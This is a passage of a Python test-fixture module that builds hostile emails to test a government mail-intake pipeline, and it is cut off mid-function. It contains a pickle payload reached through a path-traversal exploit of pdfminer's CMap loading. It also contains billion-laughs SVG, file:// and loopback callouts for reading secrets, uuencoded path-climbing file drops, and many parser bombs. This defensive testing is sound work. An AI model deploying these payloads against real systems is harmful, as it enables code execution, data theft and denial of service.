"""The sixth hostile set: written blind (extractors/ and intake/ unread), by an attacker who
has read sets 1-5 and goes for the shapes they left: the PDF structures a reader walks
upward or sideways (/Parent for inherited attributes, outlines, name trees, a field's
qualified name), an object stream or an xref stream that declares two billion entries, the
CMap name a PDF font asks for (pdfminer once unpickled a file named by it), pictures of the
formats phones send (APNG, animated WebP, HEIC, AVIF), the parts of a DOCX and an XLSX that
a reader resolves (style inheritance, numbering, merged ranges, the style sheet), MIME
that points outside the message (message/external-body, uuencoded paths), nesting that
hides in base64, codecs that are not text codecs, and Thai marks stacked so that Unicode's
canonical ordering becomes quadratic. On the privacy side: line breaks that only
str.splitlines sees, addresses whose comment or encoded display name holds a victim, a
victim's address spelt with letters that lower() or casefold() or NFKC fold, bidi controls
in exported cells, a formula in every exported field, field values made for links, and
attachments that are markup under an image's name.

Every mail carries an invented citizen (`CITIZEN`) in its body: the request must become
a case and those values must never reach a log.
"""

from __future__ import annotations

import base64
import gzip
import io
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from functools import lru_cache
from pathlib import Path

from hostile_mail_2 import (
    DOCX,
    XLSX,
    Bait,
    _document,
    _docx,
    _inline_row,
    _member,
    _paragraphs,
    _png_chunk,
    _sheet,
    _xlsx,
    pdf_from_objects,
)

from tests.review.review_seed import Person, person

CITIZEN: Person = person(606)
PDF = ("application", "pdf")
VICTIM = "kasem.suk@example.org"  # a k and an s: the letters lower() and casefold() fold into


@dataclass(frozen=True)
class Attack:
    name: str
    hope: str  # what the attacker hopes happens
    holds: str  # what must hold instead
    build: Callable[[Bait, int], bytes]
    defect: str = ""  # a substring some recorded defect code must hold ("" = none asked)


def body(n: int) -> str:
    p = CITIZEN
    return (
        "เรียน เจ้าหน้าที่\n\n"
        f"ชื่อ-นามสกุล: {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone}\n"
        f"อีเมล: {p.email}\n"
        "เรื่อง: ขอข้อมูลข่าวสารของราชการ\n"
        f"รายละเอียด: HOSTILE6MARK{n} ขอสำเนาเอกสารตามแนบ\n"
    )


def mail(n: int, subject: str = "คำร้องขอข้อมูล แนบเอกสาร") -> EmailMessage:
    out = EmailMessage()
    out["From"] = f"ผู้ร้อง {n} <citizen606.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = subject
    out["Message-ID"] = f"<hostile6-{n}@example.org>"
    out.set_content(body(n))
    return out


def attach(n: int, data: bytes, maintype: str, subtype: str, filename: str) -> bytes:
    out = mail(n)
    out.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(out)


def head(
    n: int, extra: bytes = b"", subject: bytes = b"=?utf-8?b?4LiC4Lit4LiC4LmJ4Lit4Lih4Li54Lil?="
) -> bytes:
    """Headers as written on the wire, so that anything may follow."""
    return (
        b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?= <citizen606.%d@example.org>\r\n" % n
        + b"To: saraban@example.go.th\r\nSubject: "
        + subject
        + b"\r\nDate: Fri, 04 Dec 2026 09:00:00 +0700\r\n"
        + b"Message-ID: <hostile6-raw-%d@example.org>\r\nMIME-Version: 1.0\r\n" % n
        + extra
    )


def text_part(n: int) -> bytes:
    return (
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(body(n).encode()).replace(b"\n", b"\r\n")
    )


def _file(
    data: Callable[[], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: attach(n, data(), maintype, subtype, filename)


def _files(data: Callable[[], list[tuple[bytes, str, str, str]]]) -> Callable[[Bait, int], bytes]:
    def build(_bait: Bait, n: int) -> bytes:
        out = mail(n)
        for content, maintype, subtype, filename in data():
            out.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
        return bytes(out)

    return build


def _mail_builder(build: Callable[[int], bytes]) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: build(n)


def _pdf(build: Callable[[], bytes]) -> Callable[[Bait, int], bytes]:
    return _file(build, *PDF, "form.pdf")


# --- PDF structures walked upward or sideways ----------------------------------------------

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
NAME_TEXT = b"BT /F1 12 Tf 72 720 Td (Name: Citizen 606) Tj ET"


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def pdf_parent_cycle() -> bytes:
    """The page has no /Resources, /MediaBox or /Rotate of its own, so a reader looks them
    up its /Parent chain; the chain is a ring (6 -> 7 -> 6) that never reaches the root."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 6 0 R /Contents 4 0 R >>",
            _stream(NAME_TEXT),
            FONT,
            b"<< /Type /Pages /Parent 7 0 R /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 6 0 R /Kids [6 0 R] /Count 1 >>",
        ]
    )


def pdf_nested_dicts(depth: int = 100_000) -> bytes:
    """Dictionaries nested 100,000 deep in the document information (what metadata
    readers parse first) and 50,000 deep in a page's /Group (set 2 nested arrays only)."""
    deep = b"<< /A " * depth + b"<< >>" + b" >>" * depth
    half = b"<< /A " * (depth // 2) + b"<< >>" + b" >>" * (depth // 2)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> /Group " + half + b" >>",
            _stream(NAME_TEXT),
            FONT,
            b"<< /Title (form) /Subject " + deep + b" >>",
        ],
        trailer_extra=b"/Info 6 0 R ",
    )


def _xref_stream_pdf(
    objects: dict[int, bytes], compressed: dict[int, tuple[int, int]], xref_extra: bytes
) -> bytes:
    """A PDF whose only cross-reference is an xref stream (the object after the last)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_no = max([*objects, *compressed]) + 1
    offsets[xref_no] = len(out)
    rows = bytearray(b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff")
    for number in range(1, xref_no + 1):
        if number in compressed:
            stream_no, index = compressed[number]
            rows += b"\x02" + struct.pack(">I", stream_no) + struct.pack(">H", index)
        else:
            rows += b"\x01" + struct.pack(">I", offsets[number]) + b"\x00\x00"
    data = zlib.compress(bytes(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /Length %d %s>>"
        b"\nstream\n"
        % (xref_no, len(data), xref_extra)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_no]
    )
    return bytes(out)


@lru_cache(maxsize=1)
def pdf_objstm_bomb() -> bytes:
    """The catalog, page tree and page live in an object stream whose header of number
    pairs inflates to 192 MB (48 million pairs before the three real objects), and /N
    says so: a reader that tokenises the header first holds 96 million integers."""
    real = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
    ]
    body_bytes = b" ".join(real)
    positions = []
    at = 0
    for chunk in real:
        positions.append(at)
        at += len(chunk) + 1
    pairs_real = b"".join(b"%d %d " % (i + 1, pos) for i, pos in enumerate(positions))
    filler_unit = b"9 0 " * (4 * 1024 * 1024)  # 16 MiB of pairs naming one object
    units = 12
    first = len(pairs_real) + len(filler_unit) * units
    packer = zlib.compressobj(9)
    parts = [packer.compress(pairs_real)]
    parts += [packer.compress(filler_unit) for _ in range(units)]
    parts.append(packer.compress(body_bytes) + packer.flush())
    data = b"".join(parts)
    count = 3 + units * len(filler_unit) // 4
    objstm = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (count, first, len(data))
        + data
        + b"\nendstream"
    )
    return _xref_stream_pdf(
        {4: _stream(NAME_TEXT), 5: FONT, 6: objstm},
        {1: (6, 0), 2: (6, 1), 3: (6, 2)},
        b"/Size 8 ",
    )


def pdf_xref_index_two_billion() -> bytes:
    """The only xref stream's /Index and /Size declare 2^31-1 entries past the real
    ones (data for none of them): a reader that walks the declared range, or sizes a
    table by it, spends two billion steps or gigabytes."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        4: _stream(NAME_TEXT),
        5: FONT,
    }
    return _xref_stream_pdf(objects, {}, b"/Size 2147483647 /Index [0 7 7 2147483640] ")


def pdf_outline_and_name_tree_loops() -> bytes:
    """Outlines whose /Next and /First go round, a name tree (/Dests, /EmbeddedFiles)
    whose /Kids point at each other, and page labels whose /Kids hold themselves."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageMode /UseOutlines"
            b" /Names << /Dests 9 0 R /EmbeddedFiles 9 0 R /JavaScript 10 0 R >>"
            b" /PageLabels 11 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(NAME_TEXT),
            FONT,
            b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
            b"<< /Title (one) /Parent 6 0 R /Next 8 0 R /First 8 0 R /Last 8 0 R /Count 1"
            b" /Dest [3 0 R /Fit] >>",
            b"<< /Title (two) /Parent 7 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Last 7 0 R"
            b" /Count 1 /Dest [3 0 R /Fit] >>",
            b"<< /Kids [10 0 R 9 0 R] >>",
            b"<< /Kids [9 0 R 10 0 R] >>",
            b"<< /Kids [11 0 R] >>",
        ]
    )


def pdf_field_parent_cycle() -> bytes:
    """An AcroForm field whose /Parent chain is a ring: a reader that builds the field's
    fully qualified name (a.b.c) by walking up never stops; its value is the name."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>",
            _stream(NAME_TEXT),
            FONT,
            b"<< /FT /Tx /T (name) /V (Citizen 606) /Parent 7 0 R /Type /Annot"
            b" /Subtype /Widget /Rect [100 600 300 620] /P 3 0 R >>",
            b"<< /T (form) /Parent 8 0 R /Kids [6 0 R] /FT /Tx /V 7 0 R >>",
            b"<< /T (root) /Parent 7 0 R /Kids [7 0 R] >>",
        ]
    )


class _Marker:
    """Unpickled, it creates the marker file: the proof a reader loaded our pickle."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.path, "w"))


def cmap_bait(bait: Bait) -> Path:
    """A gzipped pickle beside the host secret; loading it writes PWNED-<token> there."""
    folder = bait.secret_path.parent
    target = folder / f"PWNED-{bait.token}-cmap"
    path = folder / f"cmap{bait.token}.pickle.gz"
    if folder.is_dir():
        path.write_bytes(gzip.compress(pickle.dumps(_Marker(str(target)))))
    return path


def _pdf_name(text: str) -> bytes:
    return b"/" + b"".join(bytes([c]) if chr(c).isalnum() else b"#%02X" % c for c in text.encode())


def pdf_cmap_pickle_path(bait: Bait, n: int) -> bytes:
    """A Type0 font whose /Encoding names a CMap by an absolute path and by a relative
    climb, and whose /CIDSystemInfo /Ordering climbs too: pdfminer.six before 20251107
    joined such a name to its CMap folder and unpickled `<name>.pickle.gz` (CVE-2025-64512).
    The pickle waits beside the host secret; loading it writes a marker file."""
    stem = str(cmap_bait(bait))[: -len(".pickle.gz")]
    climb = "../../../../../../../../.." + stem
    fonts = []
    for k, encoding in enumerate((stem, climb)):
        fonts.append(
            b"<< /Type /Font /Subtype /Type0 /BaseFont /Evil%d /Encoding %s"
            b" /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil%d"
            b" /CIDSystemInfo << /Registry (Adobe) /Ordering (%s) /Supplement 0 >>"
            b" /DW 500 >>] >>" % (k, _pdf_name(encoding), k, climb.encode())
        )
    text = NAME_TEXT + b"\nBT /F2 12 Tf 72 700 Td <0041> Tj ET\nBT /F3 12 Tf 72 680 Td <0042> Tj ET"
    pdf = pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R /F2 6 0 R /F3 7 0 R >> >> >>",
            _stream(text),
            FONT,
            *fonts,
        ]
    )
    return attach(n, pdf, *PDF, "form.pdf")


# --- pictures of the formats phones send ---------------------------------------------------


@lru_cache(maxsize=1)
def apng_frames(frames: int = 1000, width: int = 1240, height: int = 1754) -> bytes:
    """An animated PNG of 1,000 A4 frames at 150 dpi (white, a few KB each): a reader that
    OCRs every frame of a multi-frame picture, as it would a multi-page TIFF, reads 1,000."""
    raw = (b"\x00" + b"\xff" * width) * height
    frame_data = zlib.compress(raw, 9)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    out = bytearray(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr))
    out += _png_chunk(b"acTL", struct.pack(">II", frames, 0))
    seq = 0

    def fctl() -> bytes:
        nonlocal seq
        data = struct.pack(">IIIIIHHBB", seq, width, height, 0, 0, 1, 10, 0, 0)
        seq += 1
        return _png_chunk(b"fcTL", data)

    out += fctl() + _png_chunk(b"IDAT", frame_data)
    for _ in range(frames - 1):
        out += fctl()
        out += _png_chunk(b"fdAT", struct.pack(">I", seq) + frame_data)
        seq += 1
    out += _png_chunk(b"IEND", b"")
    return bytes(out)


def _riff_chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


@lru_cache(maxsize=1)
def webp_animated_canvas(frames: int = 400, side: int = 9000) -> bytes:
    """An animated WebP on a 9000x9000 canvas (81 Mpx, under Pillow's warning) of 400
    one-pixel frames: libwebp's animation decoder keeps the canvas twice in RGBA (650 MB)
    and blends every frame into it."""
    from PIL import Image

    tiny = io.BytesIO()
    Image.new("RGB", (1, 1), "white").save(tiny, format="WEBP", lossless=True)
    riff = tiny.getvalue()
    assert riff[12:16] == b"VP8L", riff[:16]
    vp8l = riff[12:]  # the VP8L chunk with its header
    vp8x = bytes([0x02 | 0x10, 0, 0, 0]) + (side - 1).to_bytes(3, "little") * 2
    anim = struct.pack("<IH", 0xFFFFFFFF, 0)
    frame = _riff_chunk(
        b"ANMF",
        b"\x00\x00\x00" * 2 + b"\x00\x00\x00" * 2 + (100).to_bytes(3, "little") + b"\x00" + vp8l,
    )
    payload = b"WEBP" + _riff_chunk(b"VP8X", vp8x) + _riff_chunk(b"ANIM", anim) + frame * frames
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", 8 + len(data)) + kind + data


def _full_box(kind: bytes, data: bytes) -> bytes:
    return _box(kind, b"\x00\x00\x00\x00" + data)


@lru_cache(maxsize=1)
def phone_photos() -> list[tuple[bytes, str, str, str]]:
    """The formats a phone sends an ID-card photo in: HEIC (no decoder in Pillow), an
    AVIF (decoded by Pillow 11+) whose image extents claim 60000x60000, and a JPEG XL
    codestream that says 1 Gpx."""
    from PIL import Image

    spatial = _full_box(b"ispe", struct.pack(">II", 60000, 60000))
    heic = (
        _box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic")
        + _full_box(
            b"meta",
            _full_box(b"hdlr", b"\x00" * 4 + b"pict" + b"\x00" * 13)
            + _box(b"iprp", _box(b"ipco", spatial)),
        )
        + _box(b"mdat", b"\x00" * 512)
    )
    small = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(small, format="AVIF")
    avif = small.getvalue()
    at = avif.find(b"ispe")
    if at > 0:
        avif = avif[: at + 8] + struct.pack(">II", 60000, 60000) + avif[at + 16 :]
    jxl = b"\xff\x0a" + b"\xfa\xff\xff\xff\x7f" + b"\x00" * 64
    return [
        (heic, "image", "heic", "IMG_0001.HEIC"),
        (avif, "image", "avif", "IMG_0002.avif"),
        (jxl, "image", "jxl", "IMG_0003.jxl"),
    ]


def svg_laughs_and_external_use(bait: Bait) -> bytes:
    """An SVG with a billion laughs in a title, <use> and <image> of the host secret and a
    loopback URL, a CSS @import and an XInclude: what a rasteriser (for OCR) or a
    thumbnailer follows."""
    laughs = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "' % i + b"&a%d;" % (i - 1) * 10 + b'">' for i in range(1, 10)
    )
    secret = str(bait.secret_path).encode()
    url = b"http://127.0.0.1:%d/svg6" % bait.port
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [' + laughs + b"]>"
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        b' xmlns:xi="http://www.w3.org/2001/XInclude" width="600" height="200">'
        b"<title>&a9;</title><style>@import url(" + url + b"/css);</style>"
        b'<image xlink:href="file://' + secret + b'" width="10" height="10"/>'
        b'<use href="' + url + b'/use.svg#a"/><xi:include href="file://' + secret + b'"'
        b' parse="text"/><text x="10" y="50">Name: Citizen 606</text></svg>'
    )


# --- DOCX and XLSX parts a reader resolves -------------------------------------------------


def _form_lines() -> list[str]:
    p = CITIZEN
    return [f"ชื่อ-นามสกุล: {p.name}", f"โทรศัพท์: {p.phone}", "เรื่อง: ขอข้อมูลข่าวสาร"]


@lru_cache(maxsize=1)
def docx_million_empty_runs() -> bytes:
    """document.xml as one 9 MB line: the form's paragraphs, then one paragraph of a
    million empty runs and 200,000 bookmarks, then the form again."""
    form = _paragraphs(*_form_lines())
    runs = b"<w:r/>" * 1_000_000
    marks = b"".join(b'<w:bookmarkStart w:id="%d" w:name="b"/>' % i for i in range(200_000))
    return _docx(_document(form + b"<w:p>" + runs + marks + b"</w:p>" + form))


def docx_style_and_numbering_loops() -> bytes:
    """Paragraph styles that are based on each other (A -> B -> A), a numbering whose
    abstract definition links to a style that links back to the numbering, a list level
    starting at 2^31-1 and 200 nested levels named in lvlText: what a reader resolving
    headings or list numbers walks."""
    ct = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/'
        b'vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.document.main+xml"/>'
        b'<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.styles+xml"/>'
        b'<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.numbering+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/styles" Target="styles.xml"/>'
        b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/numbering" Target="numbering.xml"/></Relationships>'
    )
    ns = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    styles = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:styles ' + ns + b">"
        b'<w:style w:type="paragraph" w:styleId="A"><w:name w:val="heading 1"/>'
        b'<w:basedOn w:val="B"/><w:link w:val="B"/><w:next w:val="B"/></w:style>'
        b'<w:style w:type="paragraph" w:styleId="B"><w:name w:val="Title"/>'
        b'<w:basedOn w:val="A"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        b'<w:style w:type="numbering" w:styleId="L"><w:name w:val="List"/>'
        b'<w:basedOn w:val="L"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        b"</w:styles>"
    )
    text = b"".join(b"%%%d." % (i % 9 + 1) for i in range(200))
    levels = b"".join(
        b'<w:lvl w:ilvl="%d"><w:start w:val="2147483647"/><w:numFmt w:val="thaiNumbers"/>'
        b'<w:lvlText w:val="%s"/><w:pStyle w:val="A"/></w:lvl>' % (i, text)
        for i in range(9)
    )
    numbering = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:numbering ' + ns + b">"
        b'<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/>'
        + levels
        + b'</w:abstractNum><w:abstractNum w:abstractNumId="1"><w:styleLink w:val="L"/>'
        + levels
        + b"</w:abstractNum>"
        b'<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
        b'<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    paragraphs = b"".join(
        b'<w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="8"/><w:numId w:val="%d"/>'
        b"</w:numPr></w:pPr><w:r><w:t>%s</w:t></w:r></w:p>" % (k % 2 + 1, line.encode())
        for k, line in enumerate(_form_lines())
    )
    return _zip_docx(ct, _document(paragraphs), rels, styles, numbering)


def _zip_docx(ct: bytes, document: bytes, rels: bytes, styles: bytes, numbering: bytes) -> bytes:
    from hostile_mail_2 import RELS_DOCX, _zip

    return _zip(
        [
            _member("[Content_Types].xml", ct),
            _member("_rels/.rels", RELS_DOCX),
            _member("word/document.xml", document),
            _member("word/_rels/document.xml.rels", rels),
            _member("word/styles.xml", styles),
            _member("word/numbering.xml", numbering),
        ]
    )


def _form_rows() -> bytes:
    p = CITIZEN
    return _inline_row(1, "ชื่อ-นามสกุล", p.name) + _inline_row(2, "โทรศัพท์", p.phone)


def xlsx_whole_sheet_ranges() -> bytes:
    """The form in A1:B2, then a merge, a conditional format, a data validation and an
    autofilter over A3:XFD1048576 (17 billion cells): openpyxl makes an object for every
    cell a merge covers."""
    ranges = (
        b'<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>'
        b'<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1">'
        b"<formula>TRUE</formula></cfRule></conditionalFormatting>"
        b'<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576">'
        b'<formula1>"a,b"</formula1></dataValidation></dataValidations>'
    )
    sheet = _sheet(_form_rows(), b"A1:XFD1048576").replace(
        b"</sheetData>", b"</sheetData>" + ranges
    )
    sheet = sheet.replace(
        b'<dimension ref="A1:XFD1048576"/>',
        b'<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>',
    )
    return _xlsx(sheet)


@lru_cache(maxsize=1)
def xlsx_million_styles() -> bytes:
    """xl/styles.xml with a million cell formats, 100,000 number formats and 100,000
    fonts (about 80 MB of XML in a few hundred KB): read before any cell, in read-only
    mode too."""
    fmts = b"".join(
        b'<numFmt numFmtId="%d" formatCode="0.00;[Red]-0.00;&quot;x&quot;"/>' % (164 + i)
        for i in range(100_000)
    )
    fonts = b'<font><sz val="11"/><name val="Tahoma"/></font>' * 100_000
    xfs = b'<xf numFmtId="%d" fontId="1" fillId="0" borderId="0" applyNumberFormat="1"/>'
    cell_xfs = b"".join(xfs % (164 + i % 100_000) for i in range(1_000_000))
    styles = (
        b'<?xml version="1.0" encoding="UTF-8"?><styleSheet '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<numFmts count="100000">'
        + fmts
        + b'</numFmts><fonts count="100000">'
        + fonts
        + b'</fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        b'<borders count="1"><border/></borders>'
        b'<cellXfs count="1000000">' + cell_xfs + b"</cellXfs></styleSheet>"
    )
    rows = _form_rows().replace(b't="inlineStr"', b's="999999" t="inlineStr"')
    return _xlsx(_sheet(rows), extra=[_member("xl/styles.xml", styles)])


# --- MIME pointing outside the message, nesting hidden in base64 ---------------------------


def mime_external_body(bait: Bait, n: int) -> bytes:
    """message/external-body parts (RFC 2046 5.2.3): local-file naming the host secret,
    URL and anon-ftp naming a loopback port, and a cid: image in the HTML body that points
    at one of them. A reader that resolves them reads the host or calls out."""
    secret = str(bait.secret_path).encode()
    url = b"http://127.0.0.1:%d/ext6" % bait.port
    parts = [
        text_part(n),
        b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        + '<p>ดูเอกสารแนบ<img src="cid:ext1@x"></p>\r\n'.encode(),
        b"Content-Type: message/external-body; access-type=local-file;\r\n"
        b' name="' + secret + b'"\r\nContent-ID: <ext1@x>\r\n\r\n'
        b"Content-Type: text/plain\r\nContent-ID: <ext1@x>\r\n\r\n",
        b'Content-Type: message/external-body; access-type=URL;\r\n URL="' + url + b'"\r\n\r\n'
        b"Content-Type: application/pdf\r\n\r\n",
        b"Content-Type: message/external-body; access-type=anon-ftp;\r\n"
        b' site="127.0.0.1"; directory="/"; name="ext.pdf"; port="%d"\r\n\r\n'
        % bait.port
        + b"Content-Type: application/pdf\r\n\r\n",
    ]
    return (
        head(n, b'Content-Type: multipart/mixed; boundary="xb"\r\n\r\n')
        + b"".join(b"--xb\r\n" + p + b"\r\n" for p in parts)
        + b"--xb--\r\n"
    )


def mime_uuencoded_paths(bait: Bait, n: int) -> bytes:
    """uuencoded files whose `begin` lines name a path out of any folder (absolute and a
    climb) and a mode of 777: inside the text body (as old clients send) and as a part in
    Content-Transfer-Encoding x-uuencode."""
    import binascii

    def uu(name: str, data: bytes) -> bytes:
        lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
        return b"begin 777 " + name.encode() + b"\n" + b"".join(lines) + b"`\nend\n"

    folder = bait.secret_path.parent
    absolute = uu(str(folder / f"PWNED-{bait.token}-uu"), b"#!/bin/sh\necho pwned\n")
    climb = uu(f"../../../../../../../tmp/PWNED-{bait.token}-uu2", b"pwned\n")
    text = body(n).encode() + b"\r\n" + absolute.replace(b"\n", b"\r\n")
    return (
        head(n, b'Content-Type: multipart/mixed; boundary="uu"\r\n\r\n')
        + b"--uu\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + text
        + b'\r\n--uu\r\nContent-Type: application/octet-stream; name="x.sh"\r\n'
        b"Content-Transfer-Encoding: x-uuencode\r\n\r\n"
        + climb.replace(b"\n", b"\r\n")
        + b"\r\n--uu--\r\n"
    )


def mime_rfc822_base64_layers(n: int, depth: int = 22) -> bytes:
    """message/rfc822 22 deep, each layer base64 encoded (RFC 2046 forbids it; parsers
    decode it anyway): the innermost mail carries another citizen's form, and each layer a
    PDF. A depth guard that counts parsed levels never sees the inner ones as messages."""
    inner = (
        b"From: other@example.net\r\nSubject: inner\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "ชื่อ-นามสกุล: บุคคล ชั้นในสุด\r\n".encode()
    )
    for level in range(depth):
        inner = (
            b"From: layer%d@example.net\r\nSubject: layer %d\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="L%d"\r\n\r\n--L%d\r\n'
            b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            % (level, level, level, level)
            + base64.encodebytes(inner).replace(b"\n", b"\r\n")
            + b"\r\n--L%d--\r\n" % level
        )
    return (
        head(n, b'Content-Type: multipart/mixed; boundary="top"\r\n\r\n')
        + b"--top\r\n"
        + text_part(n)
        + b"\r\n--top\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(inner).replace(b"\n", b"\r\n")
        + b"\r\n--top--\r\n"
    )


# --- codecs that are no text codecs, and Unicode's own quadratic corner ---------------------

ODD_CODECS = [
    "rot13",
    "base64",
    "hex",
    "bz2",
    "zlib",
    "uu",
    "quopri",
    "idna",
    "punycode",
    "unicode_escape",
    "raw_unicode_escape",
    "undefined",
    "mbcs",
    "utf-16",
    "utf-7",
    "palmos",
    "x-mac-thai",
    "tis-620\x00",
]


def charset_codec_zoo(n: int) -> bytes:
    """Every codec Python knows that is not a text codec, or raises something other than
    UnicodeError (rot13 and base64 are str<->str or bytes<->bytes: TypeError or
    LookupError), or decodes escapes (unicode_escape with a \\N{...} of 100 KB), named as an
    encoded word's charset, a text part's charset and an HTML meta charset."""
    words = []
    for codec in ODD_CODECS:
        payload = base64.b64encode(b"+AGEA-\\N{" + b"A" * 200 + b"}xn--" + b"z" * 60)
        words.append(b"=?" + codec.encode().replace(b"\x00", b"") + b"?b?" + payload + b"?=")
    subject = b" ".join(words)
    parts = [text_part(n)]
    escape_bomb = b"\\N{" + b"THAI CHARACTER KO KAI " * 5_000 + b"}" + b"\\U0011FFFF" * 1000
    for codec in ODD_CODECS:
        parts.append(
